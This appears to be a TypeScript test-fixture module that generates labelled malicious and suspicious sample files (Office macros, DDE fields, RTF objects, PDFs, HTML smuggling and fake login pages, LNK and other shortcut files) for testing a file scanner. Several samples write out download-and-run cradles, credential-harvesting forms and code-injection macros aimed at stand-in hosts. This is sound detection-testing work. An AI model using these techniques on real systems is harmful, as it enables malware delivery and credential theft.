// Harmless documents, pages and shortcuts that show the traits of attacks.

import type { Suspect } from './suspects.ts'
import { writeCompoundFile } from './write-compound-file.ts'
import { writeLnk } from './write-lnk.ts'
import {
  callTokens,
  excelBinary,
  excelWorkbook,
  field,
  paragraph,
  relations,
  wordBinary,
  wordDocument,
} from './write-office.ts'
import { writeOneNote } from './write-onenote.ts'
import { onePage, writePdf } from './write-pdf.ts'
import { ole10Native, oleObject, packagedFile, richObject, richText } from './write-rich-text.ts'
import { writeZip } from './write-zip.ts'

const file = (
  name: string,
  label: Suspect['label'],
  reasons: readonly string[],
  bytes: Uint8Array | string,
): Suspect => ({ name, label, reasons, bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes })
const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const macro = (
  source: string,
  name = 'ThisDocument',
): readonly { readonly name: string; readonly source: string }[] => [{ name, source }]
/** A program that is one only by its headers. */
const program = ((): Buffer => {
  const bytes = Buffer.alloc(1024)
  bytes.write('MZ', 0, 'latin1')
  bytes.writeUInt32LE(0x80, 0x3c)
  bytes.write('PE\0\0', 0x80, 'latin1')
  bytes.writeUInt16LE(0x14c, 0x84)
  bytes.writeUInt16LE(0xe0, 0x94)
  bytes.writeUInt16LE(0x10b, 0x98)
  return bytes
})()
const runsCalc = 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc")'
const bad = 'http://203.0.113.7'

const macros: readonly Suspect[] = [
  file(
    'shell.docm',
    'malicious',
    ['office_macro_starts_interpreter'],
    wordDocument(
      paragraph('Please click Enable Content to view'),
      {},
      macro('Sub AutoOpen()\n Shell "powershell -w hidden -c calc", vbHide\nEnd Sub'),
    ),
  ),
  file(
    'shell.doc',
    'malicious',
    ['office_macro_starts_interpreter'],
    wordBinary(
      'Click Enable Editing',
      macro('Sub Document_Open()\n CreateObject("WScript.Shell").Run "cmd /c calc", 0\nEnd Sub'),
    ),
  ),
  file(
    'download.xlsm',
    'malicious',
    ['script_downloads_and_runs', 'office_macro_runs_on_open'],
    excelWorkbook(
      {},
      {
        macros: macro(
          `Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long\nSub Workbook_Open()\n URLDownloadToFile 0, "${bad}/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\n Shell Environ("TEMP") & "\\a.exe", vbHide\nEnd Sub`,
          'ThisWorkbook',
        ),
      },
    ),
  ),
  file(
    'obfuscated.docm',
    'malicious',
    ['office_macro_starts_interpreter', 'script_conceals_itself'],
    wordDocument(
      '',
      {},
      macro(
        `Sub AutoOpen()\n Dim a\n a = ${[...'powershell -w hidden -enc '].map((char) => `Chr(${char.charCodeAt(0)})`).join(' & ')} & "${wide('calc')}"\n CreateObject(StrReverse("llehS.tpircSW")).Run a, 0\nEnd Sub`,
      ),
    ),
  ),
  file(
    'inject.xls',
    'malicious',
    ['script_injects_code'],
    excelBinary({
      macros: macro(
        'Private Declare Function VirtualAlloc Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As Long, ByVal d As Long) As Long\nPrivate Declare Sub RtlMoveMemory Lib "kernel32" (ByVal a As Long, ByRef b As Any, ByVal c As Long)\nPrivate Declare Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As Long, ByVal d As Long, ByVal e As Long, ByRef f As Long) As Long\nSub Auto_Open()\n p = VirtualAlloc(0, 10, &H3000, &H40)\n RtlMoveMemory p, b, 10\n CreateThread 0, 0, p, 0, 0, 0\nEnd Sub',
        'Module1',
      ),
    }),
  ),
  file(
    'wmi.docm',
    'suspicious',
    ['office_macro_runs_on_open', 'script_starts_process_indirectly'],
    wordDocument(
      '',
      {},
      macro('Sub AutoOpen()\n GetObject("winmgmts:").Get("Win32_Process").Create "calc", Null, Null, p\nEnd Sub'),
    ),
  ),
  file(
    'stomped.docm',
    'suspicious',
    ['office_macro_is_stomped'],
    wordDocument('', {}, [
      {
        name: 'ThisDocument',
        source: 'Sub Hello()\nEnd Sub',
        compiledLiterals: ['powershell -w hidden -c calc', 'WScript.Shell', `${bad}/a.exe`],
      },
    ]),
  ),
  file(
    'event.xlsm',
    'suspicious',
    ['office_macro_runs_on_open'],
    excelWorkbook({}, { macros: macro('Private Sub Image1_MouseMove(ByVal a)\n Shell "calc"\nEnd Sub', 'Sheet1') }),
  ),
  file(
    'writes.docm',
    'suspicious',
    ['script_drops_decoded_file'],
    wordDocument(
      '',
      {},
      macro(
        'Sub AutoOpen()\n Set d = CreateObject("MSXML2.DOMDocument").createElement("b")\n d.DataType = "bin.base64"\n d.Text = "aGVsbG8="\n Open Environ("TEMP") & "\\a.exe" For Binary As #1\n Put #1, , d.nodeTypedValue\n Close #1\n Shell Environ("TEMP") & "\\a.exe"\nEnd Sub',
      ),
    ),
  ),
  file(
    'exec.xls',
    'malicious',
    ['office_macro_sheet_calls_out', 'office_macro_sheet_is_hidden'],
    excelBinary({ hidden: 2, autoOpen: true, formulas: [callTokens(110, 'cmd /c calc')] }),
  ),
  file(
    'call.xls',
    'malicious',
    ['office_macro_sheet_calls_out'],
    excelBinary({
      hidden: 1,
      autoOpen: true,
      formulas: [
        callTokens(149, 'urlmon', 'URLDownloadToFileA', 'JJCCJJ', 'x'),
        callTokens(150, 'urlmon', 'URLDownloadToFileA', 'JJCCJJ', `${bad}/a.dll`),
        callTokens(110, 'rundll32 C:\\Users\\Public\\a.dll,x'),
      ],
    }),
  ),
  file(
    'macrosheet.xlsm',
    'malicious',
    ['office_macro_sheet_calls_out'],
    excelWorkbook(
      {
        'xl/macrosheets/sheet1.xml':
          '<xm:macrosheet xmlns:xm="m"><sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c calc")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>',
      },
      {
        workbook:
          '<workbook xmlns:r="r"><sheets><sheet name="M" sheetId="1" state="veryHidden" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames></workbook>',
        relations:
          '<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>',
      },
    ),
  ),
]

const links: readonly Suspect[] = [
  file(
    'dde.docx',
    'malicious',
    ['office_dde_runs_program'],
    wordDocument(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
  ),
  file(
    'dde-split.docx',
    'malicious',
    ['office_dde_runs_program'],
    wordDocument(
      field(
        ' DD',
        'EAUTO ',
        'c:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\',
        'cmd.exe',
        ' "/c calc"',
      ),
    ),
  ),
  file(
    'dde.xlsx',
    'malicious',
    ['office_dde_runs_program'],
    excelWorkbook({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>',
    }),
  ),
  file(
    'dde.doc',
    'malicious',
    ['office_dde_runs_program'],
    wordBinary('x \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14 e \x15'),
  ),
  file(
    'template.docx',
    'suspicious',
    ['office_template_is_remote'],
    wordDocument(paragraph('x'), {
      'word/_rels/settings.xml.rels': relations([
        { type: 'attachedTemplate', target: `${bad}/t.dotm`, external: true },
      ]),
    }),
  ),
  file(
    'object.docx',
    'suspicious',
    ['office_object_is_remote'],
    wordDocument(paragraph('x'), {
      'word/_rels/document.xml.rels': relations([{ type: 'oleObject', target: `${bad}/o.rtf`, external: true }]),
    }),
  ),
  file(
    'handler.docx',
    'malicious',
    ['office_link_exploits_handler'],
    wordDocument(paragraph('x'), {
      'word/_rels/document.xml.rels': relations([
        { type: 'oleObject', target: 'https://files.test/RDF8421.html!', external: true },
      ]),
    }),
  ),
  file(
    'mhtml.docx',
    'malicious',
    ['office_link_exploits_handler'],
    wordDocument(paragraph('x'), {
      'word/_rels/document.xml.rels': relations([
        { type: 'oleObject', target: 'mhtml:http://files.test/s.html!x-usc:http://files.test/s.html', external: true },
      ]),
    }),
  ),
  file(
    'unc.docx',
    'suspicious',
    ['office_links_file_share'],
    wordDocument(paragraph('x'), {
      'word/_rels/settings.xml.rels': relations([
        { type: 'attachedTemplate', target: 'file://203.0.113.7/s/t.dotx', external: true },
      ]),
    }),
  ),
  file(
    'frame.docx',
    'suspicious',
    ['office_object_is_remote'],
    wordDocument(paragraph('x'), {
      'word/_rels/webSettings.xml.rels': relations([{ type: 'frame', target: `${bad}/f.doc`, external: true }]),
    }),
  ),
  file(
    'package.docx',
    'malicious',
    ['office_embeds_program'],
    wordDocument(paragraph('x'), {
      'word/embeddings/oleObject1.bin': writeCompoundFile(
        [{ name: '\x01Ole10Native', bytes: ole10Native('invoice.js', Buffer.from(runsCalc)) }],
        '0003000c-0000-0000-c000-000000000046',
      ),
    }),
  ),
  file(
    'program.xlsx',
    'malicious',
    ['office_embeds_program'],
    excelWorkbook({
      'xl/embeddings/oleObject1.bin': writeCompoundFile([
        { name: '\x01Ole10Native', bytes: ole10Native('setup.exe', program) },
      ]),
    }),
  ),
  file(
    'package.doc',
    'malicious',
    ['office_embeds_program'],
    wordBinary('x', null, [
      {
        name: 'ObjectPool',
        children: [
          {
            name: '_1',
            clsid: '0003000c-0000-0000-c000-000000000046',
            children: [
              { name: '\x01Ole10Native', bytes: ole10Native('a.bat', Buffer.from('@echo off\r\nstart calc\r\n')) },
            ],
          },
        ],
      },
    ]),
  ),
  file(
    'equation.rtf',
    'malicious',
    ['office_equation_object', 'rtf_object_loads_by_itself'],
    richText(richObject(oleObject('Equation.3', Buffer.alloc(900, 0x41)), { update: true, brokenUp: true })),
  ),
  file(
    'package.rtf',
    'malicious',
    ['office_embeds_program'],
    richText(richObject(oleObject('Package', packagedFile('a.js', Buffer.from(runsCalc))))),
  ),
  file('template.rtf', 'suspicious', ['office_template_is_remote'], richText(`{\\*\\template ${bad}/t.dotm}`)),
  file(
    'short.rtf',
    'malicious',
    ['rtf_header_is_odd', 'office_equation_object'],
    richText(richObject(oleObject('eQuatIon.3', Buffer.alloc(900, 0x42)), { update: true }), '{\\rt'),
  ),
  file(
    'macro.odt',
    'suspicious',
    ['office_script_runs_by_event'],
    writeZip({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'META-INF/manifest.xml': '<manifest/>',
      'content.xml':
        '<office:document-content><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:document-content>',
      'Basic/Standard/M.xml':
        '<script:module>Sub Main\nShell("cmd /c powershell -w hidden iwr http://203.0.113.7/a.ps1 | iex")\nEnd Sub</script:module>',
    }),
  ),
]

const pdfs: readonly Suspect[] = [
  file(
    'launch.pdf',
    'malicious',
    ['pdf_launches_program'],
    writePdf(onePage('Hello', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' })),
  ),
  file(
    'export.pdf',
    'malicious',
    ['pdf_embeds_program', 'pdf_script_exports_file'],
    writePdf([
      ...onePage('Hello', { catalog: '/OpenAction 5 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>' }),
      { dictionary: '<< /S /JavaScript /JS (this.exportDataObject\\({cName:"a.exe",nLaunch:2}\\);) >>' },
      { dictionary: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>' },
      { dictionary: '<< /Type /EmbeddedFile >>', stream: program, flate: true },
    ]),
  ),
  file(
    'disguised.pdf',
    'suspicious',
    ['pdf_names_are_disguised'],
    writePdf([
      ...onePage('Hello', { catalog: '/Open#41ction 5 0 R' }),
      { dictionary: '<< /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>' },
    ]),
  ),
  file(
    'macro-inside.pdf',
    'suspicious',
    ['pdf_embeds_macro_document'],
    writePdf([
      ...onePage('Open the attachment'),
      { dictionary: '<< /Type /Filespec /F (a.docm) /EF << /F 6 0 R >> >>' },
      {
        dictionary: '<< /Type /EmbeddedFile >>',
        stream: wordDocument('', {}, macro('Sub AutoOpen()\n Shell "calc"\nEnd Sub')),
        flate: true,
      },
    ]),
  ),
  file(
    'exploit.pdf',
    'suspicious',
    ['script_exploits_reader'],
    writePdf([
      ...onePage('Hello', { catalog: '/OpenAction 5 0 R' }),
      { dictionary: '<< /S /JavaScript /JS 6 0 R >>' },
      {
        dictionary: '<< >>',
        stream: 'var n=unescape("%u9090%u9090");util.printf("%45000f", 1);Collab.getIcon("a");',
        flate: true,
      },
    ]),
  ),
  file(
    'lure.pdf',
    'suspicious',
    ['pdf_links_to_program'],
    writePdf(
      onePage('Click here to view the secure document', {
        page: `/Annots [<< /Subtype /Link /A << /S /URI /URI (${bad}/invoice.js) >> >>]`,
      }),
    ),
  ),
  file(
    'share.pdf',
    'suspicious',
    ['pdf_reaches_file_share'],
    writePdf(
      onePage('Hello', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\203.0.113.7\\\\s\\\\x.pdf) /D [0 /Fit] >>' }),
    ),
  ),
]

const smuggled = writeZip({ 'invoice.js': runsCalc }).toString('base64')
const pages: readonly Suspect[] = [
  file(
    'smuggle.html',
    'malicious',
    ['html_smuggles_file'],
    `<html><body><script>var d=atob("${smuggled}");var b=new Blob([d],{type:"application/octet-stream"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="i.zip";a.click();</script></body></html>`,
  ),
  file(
    'smuggle-joined.html',
    'malicious',
    ['html_smuggles_file'],
    `<html><script>var p="${smuggled.slice(0, 40)}"+"${smuggled.slice(40, 90)}"+"${smuggled.slice(90)}";var b=new Blob([p]);if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(b,"x.zip")}else{var a=document.createElement("a");a.href=window.URL.createObjectURL(b);a.setAttribute("download","x.zip");a.click()}</script></html>`,
  ),
  file(
    'smuggle-data.html',
    'suspicious',
    ['html_smuggles_file'],
    `<html><a id=a download="i.zip" href="data:application/zip;base64,${smuggled}">i</a><script>document.getElementById("a").click()</script></html>`,
  ),
  file(
    'login.html',
    'suspicious',
    ['html_asks_for_password'],
    '<html><title>Microsoft Outlook - Sign in</title><form action="https://collect.test/p.php" method="post"><input type="email" name="e"><input type="password" name="p"><button>Sign in</button></form></html>',
  ),
  file(
    'login-telegram.html',
    'suspicious',
    ['html_asks_for_password'],
    '<html><title>Office 365</title><input type="email" id="e"><input type="password" id="p"><script>document.querySelector("button").onclick=function(){fetch("https://api.telegram.org/bot1:a/sendMessage?chat_id=1&text="+p.value)}</script><button>Next</button></html>',
  ),
  file(
    'login-encoded.html',
    'suspicious',
    ['html_builds_page_from_code'],
    `<html><script>document.write(unescape("${[...'<form action="https://collect.test/p.php"><input type=password></form>'].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('')}"))</script></html>`,
  ),
  file(
    'atob-page.html',
    'suspicious',
    ['html_builds_page_from_code'],
    `<html><script>document.write(atob("${Buffer.from('<html><script>location.href="https://collect.test/login"</script></html>').toString('base64')}"))</script></html>`,
  ),
  file(
    'msdt.html',
    'suspicious',
    ['html_calls_protocol_handler'],
    '<html><script>location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \\"IT_RebrowseForFile=cal?c IT_BrowseForFile=x\\""</script><a href="ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=$(calc)">x</a></html>',
  ),
  file(
    'search.html',
    'suspicious',
    ['html_calls_protocol_handler'],
    '<html><meta http-equiv="refresh" content="0; url=search-ms:query=invoice&crumb=location:\\\\203.0.113.7\\s&displayname=Docs"><a href="search-ms:query=a&crumb=location:\\\\203.0.113.7@80\\s">x</a></html>',
  ),
  file(
    'picture.svg',
    'suspicious',
    ['svg_runs_script'],
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href = atob("aHR0cHM6Ly9jb2xsZWN0LnRlc3QvbG9naW4/aWQ9MQ==")</script></svg>',
  ),
  file(
    'form.svg',
    'suspicious',
    ['svg_runs_script'],
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.test/p.php"><input type="password"/></form></foreignObject><script>eval(atob("YWxlcnQoMSk7YWxlcnQoMik7YWxlcnQoMyk7"))</script></svg>',
  ),
  file(
    'objects.html',
    'suspicious',
    ['html_page_uses_windows_objects'],
    '<html><script language="VBScript">Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc", 0</script></html>',
  ),
]

const cmd = 'C:\\Windows\\System32\\cmd.exe'
const shortcuts: readonly Suspect[] = [
  file(
    'invoice.pdf.lnk',
    'malicious',
    ['lnk_starts_interpreter', 'lnk_looks_like_document'],
    writeLnk({
      target: cmd,
      arguments: `/c powershell -w hidden -c "iwr ${bad}/a.exe -OutFile %TEMP%\\a.exe; start %TEMP%\\a.exe"`,
      icon: 'C:\\Program Files\\Adobe\\Acrobat\\AcroRd32.exe',
    }),
  ),
  file(
    'padded.lnk',
    'malicious',
    ['lnk_hides_arguments'],
    writeLnk({ target: cmd, arguments: `${' '.repeat(300)}/c calc` }),
  ),
  file(
    'mshta.lnk',
    'suspicious',
    ['lnk_starts_interpreter', 'script_uses_system_tool_to_fetch'],
    writeLnk({ target: 'C:\\Windows\\System32\\mshta.exe', arguments: 'http://files.test/a.hta' }),
  ),
  file(
    'encoded.lnk',
    'malicious',
    ['lnk_starts_interpreter'],
    writeLnk({
      target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      arguments: `-nop -w hidden -enc ${wide(`IEX (New-Object Net.WebClient).DownloadString('${bad}/a')`)}`,
      showCommand: 7,
    }),
  ),
  file(
    'appended.lnk',
    'suspicious',
    ['lnk_carries_payload'],
    writeLnk({
      target: cmd,
      arguments: '/c findstr /b x "%~f0"',
      appended: Buffer.alloc(2000, 'function x(){ return 1 }\n'),
    }),
  ),
  file(
    'network.lnk',
    'suspicious',
    ['lnk_points_to_network'],
    writeLnk({ target: '\\\\203.0.113.7\\share\\a.exe', icon: '\\\\203.0.113.7\\i.ico' }),
  ),
  file(
    'rundll.lnk',
    'suspicious',
    ['lnk_starts_interpreter'],
    writeLnk({ target: 'C:\\Windows\\System32\\rundll32.exe', arguments: '%TEMP%\\a.dll,Start' }),
  ),
  file(
    'share.url',
    'suspicious',
    ['pointer_leads_to_share'],
    '[InternetShortcut]\r\nURL=file://203.0.113.7/share/a.exe\r\nIconFile=\\\\203.0.113.7\\i.ico\r\n',
  ),
  file(
    'webdav.url',
    'suspicious',
    ['pointer_leads_to_share'],
    '[InternetShortcut]\r\nURL=file:\\\\files.test@80\\share\\a.vbs\r\nIconIndex=1\r\n',
  ),
  file('query.iqy', 'suspicious', ['pointer_queries_web'], `WEB\r\n1\r\n${bad}/x.dat\r\n`),
  file(
    'macro.slk',
    'malicious',
    ['pointer_macro_runs_by_itself'],
    'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC("cmd /c calc")\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n',
  ),
  file(
    'folder.library-ms',
    'suspicious',
    ['search_file_leads_outside'],
    '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\203.0.113.7\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
  ),
  file(
    'remote.rdp',
    'suspicious',
    ['pointer_remote_desktop_shares_disks'],
    'full address:s:desk.files.test\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nremoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||Check\r\n',
  ),
  file(
    'console.msc',
    'malicious',
    ['console_file_runs_script'],
    '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTables><Strings><String ID="39" Refs="1">res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot().Name)</String></Strings></StringTables></MMC_ConsoleFile>',
  ),
  file(
    'task.msc',
    'suspicious',
    ['pointer_runs_program'],
    '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><ConsoleTaskpads><ConsoleTaskpad><Tasks><Task Type="CommandLine" Command="powershell.exe"><CommandLine Directory="" WindowState="Minimized" Params="-w hidden -c calc"/></Task></Tasks></ConsoleTaskpad></ConsoleTaskpads></MMC_ConsoleFile>',
  ),
  file(
    'topic.htm',
    'malicious',
    ['help_page_starts_program'],
    '<html><body><OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00AA003B7A11" width=1 height=1><PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap::shortcut"><PARAM name="Item1" value=",cmd.exe,/c calc.exe"><PARAM name="Item2" value="273,1,1"></OBJECT><SCRIPT>x.Click();</SCRIPT></body></html>',
  ),
  file(
    'settings.SettingContent-ms',
    'suspicious',
    ['pointer_runs_program'],
    '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
  ),
  file(
    'script.one',
    'malicious',
    ['onenote_embeds_program'],
    writeOneNote(
      [
        {
          name: 'open.hta',
          bytes: Buffer.from(
            '<html><script language="vbscript">CreateObject("WScript.Shell").Run "cmd /c calc",0</script></html>',
          ),
        },
      ],
      'Double click to view the document',
    ),
  ),
  file('program.one', 'malicious', ['onenote_embeds_program'], writeOneNote([{ name: 'setup.exe', bytes: program }])),
  file(
    'batch.one',
    'malicious',
    ['onenote_embeds_program'],
    writeOneNote([{ name: 'a.cmd', bytes: Buffer.from('@echo off\r\nstart /min powershell -w hidden -c calc\r\n') }]),
  ),
]

export const documentSuspects: readonly Suspect[] = [...macros, ...links, ...pdfs, ...pages, ...shortcuts]
